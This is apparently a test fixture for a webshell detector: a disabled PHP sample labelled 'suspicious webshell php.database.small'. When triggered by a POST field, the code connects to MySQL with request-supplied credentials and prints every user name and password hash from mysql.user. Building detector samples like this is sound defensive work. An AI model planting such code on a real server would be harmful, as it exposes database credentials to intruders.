<?php return; // want: suspicious webshell php.database.small
if (isset($_POST['go'])) {
	$db = mysql_connect($_POST['host'], $_POST['name'], $_POST['password']);
	$all = mysql_query('SELECT User, Password FROM mysql.user');
	while ($one = mysql_fetch_array($all))
		echo $one['User'], ' ', $one['Password'], '<br>';
}
